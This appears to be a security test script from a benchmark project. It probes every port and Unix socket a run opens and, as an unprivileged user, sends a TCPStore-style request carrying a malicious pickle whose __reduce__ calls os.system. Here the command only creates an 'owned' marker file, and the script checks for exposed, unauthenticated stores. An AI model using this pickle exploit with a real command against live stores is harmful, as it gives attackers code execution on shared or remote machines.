"""A program: attacks a run, as another user of its machine, wherever it listens.

    python attack_on_run.py FOLDER SPBENCH-WORDS...

It is started in a network namespace of its own, so that whatever listens there is the run's. Its
last line is JSON: a store that does listen fell to the attack, ports, Unix sockets, those of them
that answered, the exit code, and the status of each row.
"""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import socket
import struct
import subprocess
import sys
from pathlib import Path
from typing import Any

import psutil
from helpers.spbench_process import finish, rows_of, start

from spbench.comm.kv_store import KeyValueStore

NOBODY = 65534
KEY = "torch.rendezvous.run.state"
NONCE = b"abcd"
MAGIC = struct.pack("<I", 0x3C85F7CE)


class Bomb:
    """Runs a command where it is un-pickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


def request(bomb: Bomb) -> bytes:
    """What a client of TCPStore sends: 0, who it is; 1, a value; 13, a number to be repeated."""
    key, value = f"/{KEY}".encode(), pickle.dumps(bomb, 0)
    sized = (struct.pack("<Q", len(text)) + text for text in (key, value))
    return b"\0" + MAGIC + b"\1" + b"".join(sized) + b"\x0d" + NONCE


def falls(address: Any, bomb: Bomb) -> bool:
    """Whether a store answers an unprivileged user, who leaves a pickle there."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        with contextlib.suppress(OSError):
            os.setgroups([])
            os.setgid(NOBODY)
            os.setuid(NOBODY)
            with socket.socket(_family(address)) as line:
                line.settimeout(0.5)
                line.connect(address)
                line.sendall(request(bomb))
                os.write(writer, line.recv(len(NONCE)))
        os._exit(0)
    os.close(writer)
    os.wait()
    with os.fdopen(reader, "rb") as answer:
        return answer.read() == NONCE


def _family(address: Any) -> int:
    if isinstance(address, str):
        return socket.AF_UNIX
    return socket.AF_INET6 if ":" in address[0] else socket.AF_INET


def listening() -> tuple[set[Any], set[Any]]:
    """Ports, with their addresses, and Unix sockets; @ begins the name of one without a folder."""
    tcp = [one for one in psutil.net_connections("tcp") if one.status == psutil.CONN_LISTEN]
    unix = [line.split() for line in Path("/proc/net/unix").read_text().splitlines()]
    files = {words[7] for words in unix if words[3] == "00010000" and len(words) > 7}
    return {tuple(one.laddr) for one in tcp}, files


def main(place: Path, words: list[str]) -> None:
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    bomb = Bomb(f"touch {place / 'owned'}")
    control = KeyValueStore("127.0.0.1", 0, keeps=True)
    works = falls(("127.0.0.1", control.port), bomb) and control.read(KEY) is not None
    del control
    run = start(place, "run", *words, "--out", "here")
    ports, files, fallen = set[Any](), set[Any](), []
    while run.poll() is None:
        new_ports, new_files = listening()
        fallen += [one for one in new_ports - ports | new_files - files if falls(one, bomb)]
        ports, files = ports | new_ports, files | new_files
    code = finish(run)[0]
    status = [row["status"] for row in rows_of(place / "here")]
    print(json.dumps([works, [*ports], [*files], fallen, code, status]))


if __name__ == "__main__":
    main(Path(sys.argv[1]), sys.argv[2:])
